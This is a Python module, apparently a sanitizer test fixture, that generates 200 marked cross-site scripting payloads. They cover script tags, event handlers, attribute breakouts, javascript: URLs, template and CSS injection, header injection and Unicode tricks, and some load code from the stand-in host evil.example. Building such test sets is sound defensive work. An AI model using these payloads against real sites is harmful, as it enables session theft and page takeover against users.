"""200 texts that would do harm where a page takes them for more than text.

Each carries its own mark, `zq7z` for the eighth, and sets `window.__xss` where it runs.
"""

import re

# Characters that turn, hide or break text: no page may contain one as it is.
UNSEEN = re.compile("[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f"
                    "\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff\U000e0000-\U000e007f]")

RUN = "window.__xss='MARK'"
TAGS = [
    "<script>RUN</script>", "<SCRIPT>RUN</SCRIPT>", "<script >RUN</script >", "<script/x>RUN</script>",
    "<script\n>RUN</script\n>", "<<script>RUN//<</script>", "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script src=data:text/javascript,RUN></script>", "<script src=//evil.example/MARK.js></script>",
    "<script type=module>RUN</script>", "<svg><script>RUN</script></svg>",
    "<svg><script href=data:,RUN />", "<math><script>RUN</script></math>", "<script>RUN",
    "<script\x00>RUN</script>", "<scr\x00ipt>RUN</scr\x00ipt>", "<script\u2028>RUN</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=RUN>\">",
    "<template><script>RUN</script></template>", "<xmp><script>RUN</script></xmp>",
    "<plaintext><script>RUN</script>", "<!--><script>RUN</script>-->", "<![CDATA[<script>RUN</script>]]>",
    "<?xml version=\"1.0\"?><script>RUN</script>", "<script>RUN</script><!-- MARK -->"]
HANDLERS = [
    "<img src=x onerror=RUN>", "<img src=x onerror=\"RUN\">", "<img src=x onerror='RUN'>",
    "<img/src=x/onerror=RUN>", "<IMG SRC=x OnErRoR=RUN>", "<img src=x onerror\n=\nRUN>",
    "<img src=x:x onerror=RUN //", "<img src onerror=RUN", "<image src=x onerror=RUN>",
    "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x to=y>", "<svg><a xlink:href=javascript:RUN><text>MARK</text></a>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=RUN/>#x\">",
    "<svg><foreignObject><body onload=RUN>", "<svg><style><img src=x onerror=RUN></style>",
    "<body onload=RUN>", "<body onpageshow=RUN>", "<body onfocus=RUN>", "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
    "<button autofocus onfocus=RUN>MARK</button>", "<a href=# autofocus onfocus=RUN tabindex=1>MARK</a>",
    "<video src=x onerror=RUN>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>",
    "<audio src onloadstart=RUN>", "<iframe onload=RUN></iframe>", "<iframe srcdoc=\"<script>parent.RUN</script>\">",
    "<iframe src=javascript:RUN></iframe>", "<object data=javascript:RUN></object>",
    "<object data=data:text/html,<script>RUN</script>></object>", "<embed src=javascript:RUN>",
    "<marquee onstart=RUN>MARK</marquee>", "<style onload=RUN></style>", "<link rel=stylesheet href=x onerror=RUN>",
    "<keygen autofocus onfocus=RUN>", "<isindex action=javascript:RUN type=submit>",
    "<form><button formaction=javascript:RUN>MARK</button></form>", "<form oninput=RUN><input value=MARK>",
    "<div onpointerover=RUN style=position:fixed;inset:0>MARK</div>", "<div onanimationstart=RUN style=animation:x>",
    "<div contenteditable autofocus onfocus=RUN>MARK", "<dialog open onclose=RUN><form method=dialog>",
    "<a href=javascript:RUN>MARK</a>", "<math href=javascript:RUN>MARK</math>",
    "<table background=javascript:RUN>"]
BREAKERS = [
    "\" onmouseover=RUN x=\"", "' onmouseover=RUN x='", "` onmouseover=RUN x=`", "\"><script>RUN</script>",
    "'><script>RUN</script>", "\"/><img src=x onerror=RUN>", "'/><svg onload=RUN>",
    "\" autofocus onfocus=RUN \"", "' autofocus onfocus=RUN '", " onfocus=RUN autofocus ",
    "</textarea><script>RUN</script>", "</title><script>RUN</script>", "</style><script>RUN</script>",
    "</script><script>RUN</script>", "</option></select><img src=x onerror=RUN>",
    "</template><img src=x onerror=RUN>", "</noscript><img src=x onerror=RUN>", "--><script>RUN</script>",
    "--!><img src=x onerror=RUN>", "]]><script>RUN</script>", "*/</style><script>RUN</script>",
    "</svg><svg onload=RUN>", "</mark></span></p></main><script>RUN</script>", "</form><form action=//evil.example>MARK",
    "</body></html><script>RUN</script>", "\"></a><a href=\"javascript:RUN\">MARK", "\\\"><script>RUN</script>",
    "\\');RUN//", "';RUN;//", "\";RUN;//", "`;RUN;//", "${RUN}", "</ScRiPt ><ScRiPt>RUN</ScRiPt>",
    "x\" style=\"background:url(javascript:RUN)", "x' data-x='><img src=x onerror=RUN>",
    "\r\nSet-Cookie: MARK=1\r\n\r\n<script>RUN</script>", "\r\nLocation: javascript:RUN",
    "data: MARK\n\nevent: inbox\ndata: <script>RUN</script>\n\n", "\"}</script><script>RUN</script>",
    "</td></tr></table><img src=x onerror=RUN>"]
ADDRESSES = [
    "javascript:RUN", "JaVaScRiPt:RUN", " javascript:RUN", "java\tscript:RUN", "java\nscript:RUN",
    "\x01javascript:RUN", "javascript&colon;RUN", "javascript&#58;RUN", "&#106;avascript:RUN",
    "javascript://evil.example/%0aRUN", "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#MARK", "vbscript:MsgBox(\"MARK\")",
    "https://evil.example/\"onmouseover=RUN x=\"", "https://evil.example/'><script>RUN</script>",
    "https://evil.example/?MARK=<img src=x onerror=RUN>", "//evil.example/MARK", "http://[::1]/<svg onload=RUN>",
    "[MARK](javascript:RUN)", "![MARK](x\" onerror=\"RUN)", "<https://evil.example/\"><script>RUN</script>>",
    "blob:https://evil.example/MARK", "feed:javascript:RUN", "mailto:a@b.example?subject=<script>RUN</script>",
    "file:///etc/passwd#MARK"]
TEMPLATES = [
    "{{MARK}}", "{{{MARK}}}", "{{&MARK}}", "{{#MARK}}x{{/MARK}}", "{{^MARK}}x{{/MARK}}", "{{> layout MARK}}",
    "{{=<% %>=}}<%MARK%>", "{{! MARK }}<script>RUN</script>", "{{constructor.constructor('RUN')()}}",
    "<%= MARK %>", "{% MARK %}", "#{MARK}", "[[MARK]]", "{{name}} MARK", "{{csrf}} MARK",
    "{{#each}}<script>RUN</script>{{/each}}"]
STYLES = [
    "<style>*{background:url(//evil.example/MARK)}</style>", "<style>@import '//evil.example/MARK.css'</style>",
    "<link rel=stylesheet href=//evil.example/MARK.css>", "<meta http-equiv=refresh content=\"0;url=javascript:RUN\">",
    "<meta http-equiv=refresh content=0;url=//evil.example/MARK>", "<base href=//evil.example/MARK/>",
    "<div style=\"width:expression(RUN)\">", "<div style=\"position:fixed;inset:0;background:red\">MARK</div>",
    "<p style=\"behavior:url(//evil.example/MARK)\">", "<xss style=\"xss:expression(RUN)\">"]
CHARACTERS = [
    "\u202eMARK <script>RUN</script>", "\u2066MARK\u2069 a\u2067b", "a\u200bMARK\u200bb", "MARK\u200d\u200c\u2060\ufeffx",
    "\U000e0001\U000e0068\U000e0069 MARK", "MARK\x00<script>RUN</script>", "\x1b[31mMARK\x1b]0;x\x07", "\x9b31mMARK\x85",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334" * 20 + "MARK", "\u0634\u0631\u0643\u0629 MARK \u0645\u062a\u0627\u062e\u0631\u0629",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u00ad<scr\u00adipt>RUN</scr\u00adipt>", "MARK\u2028RUN\u2029",
    "\ufffe\uffffMARK", "\U0001f469\u200d\U0001f469\u200d\U0001f467 MARK", "\u061cMARK\u200e\u200f",
    "MARK" + "W" * 400, "\u115f\u3164MARK\u2800", "\ufdfd" * 30 + "MARK", "\U0001d4e2\U0001d4ec\U0001d4fb MARK"]
ENCODED = [
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;",
    "&amp;lt;script&amp;gt;RUN", "%3Cscript%3ERUN%3C/script%3E", "%253Cscript%253ERUN", "\\u003cscript\\u003eRUN",
    "\\x3cscript\\x3eRUN", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "&quot; onmouseover=RUN &quot;",
    "&NewLine;&lt;img src=x onerror=RUN&gt;", "&lt<script>RUN</script>", "&#0;<script>RUN</script>",
    "&apos;><script>RUN</script>"]


def payload(number, pattern):
    mark = f"zq{number}z"
    return pattern.replace("RUN", RUN).replace("MARK", mark) + ("" if "MARK" in pattern or
                                                                "RUN" in pattern else " " + mark)


PAYLOADS = [payload(number, pattern) for number, pattern in enumerate(
    TAGS + HANDLERS + BREAKERS + ADDRESSES + TEMPLATES + STYLES + CHARACTERS + ENCODED)]
assert len(PAYLOADS) == 200 and all(f"zq{n}z" in p for n, p in enumerate(PAYLOADS))
